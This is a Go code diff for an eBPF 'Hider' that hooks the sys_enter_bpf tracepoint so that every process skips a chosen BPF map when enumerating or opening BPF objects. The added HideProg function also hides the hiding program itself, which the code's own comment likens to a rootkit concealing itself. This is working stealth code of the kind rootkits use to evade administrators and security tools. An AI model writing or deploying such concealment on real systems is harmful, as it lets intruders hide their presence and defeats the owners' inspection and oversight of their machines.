@@ -47,25 +47,21 @@ func (h *Hider) Map() *ebpf.Map { return h.objs.HiderIds }
 // Hide starts hiding the map: from now on GET_NEXT_ID walks past it and
 // GET_FD_BY_ID fails for it, for every process.
 func (h *Hider) Hide() error {
-	before := uint32(0) // the largest map id below ours
-	for id := uint32(0); ; {
+	before, err := below(h.MapID, func(id uint32) (uint32, error) {
 		next, err := ebpf.MapGetNextID(ebpf.MapID(id))
-		if errors.Is(err, unix.ENOENT) || errors.Is(err, os.ErrNotExist) {
-			break
-		}
-		if err != nil {
-			return err
-		}
-		if uint32(next) >= h.MapID {
-			break
-		}
-		before, id = uint32(next), uint32(next)
-	}
-	if err := h.objs.HiderIds.Update(uint32(0), uint64(h.MapID), 0); err != nil {
+		return uint32(next), err
+	})
+	if err != nil {
 		return err
 	}
-	if err := h.objs.HiderIds.Update(uint32(1), uint64(before), 0); err != nil {
+	if err := h.objs.HiderCfg.Update(uint32(0), uint64(h.MapID), 0); err != nil {
 		return err
+	}
+	if err := h.objs.HiderCfg.Update(uint32(1), uint64(before), 0); err != nil {
+		return err
+	}
+	if h.link != nil {
+		return nil
 	}
 	l, err := link.Tracepoint("syscalls", "sys_enter_bpf", h.objs.Hide, nil)
 	if err != nil {
@@ -73,6 +69,42 @@ func (h *Hider) Hide() error {
 	}
 	h.link = l
 	return nil
+}
+
+// HideProg hides the program too (from BPF_PROG_GET_NEXT_ID and
+// BPF_PROG_GET_FD_BY_ID), as a rootkit hides the program doing the hiding;
+// it takes effect once Hide attached it.
+func (h *Hider) HideProg() error {
+	before, err := below(h.ProgID, func(id uint32) (uint32, error) {
+		next, err := ebpf.ProgramGetNextID(ebpf.ProgramID(id))
+		return uint32(next), err
+	})
+	if err != nil {
+		return err
+	}
+	if err := h.objs.HiderCfg.Update(uint32(2), uint64(h.ProgID), 0); err != nil {
+		return err
+	}
+	return h.objs.HiderCfg.Update(uint32(3), uint64(before), 0)
+}
+
+// below is the largest id that next lists below id (0 if none): a
+// GET_NEXT_ID from there or above would return id.
+func below(id uint32, next func(uint32) (uint32, error)) (uint32, error) {
+	before := uint32(0)
+	for cur := uint32(0); ; {
+		n, err := next(cur)
+		if errors.Is(err, unix.ENOENT) || errors.Is(err, os.ErrNotExist) {
+			return before, nil
+		}
+		if err != nil {
+			return 0, err
+		}
+		if n >= id {
+			return before, nil
+		}
+		before, cur = n, n
+	}
 }
 
 // Close stops hiding and unloads.
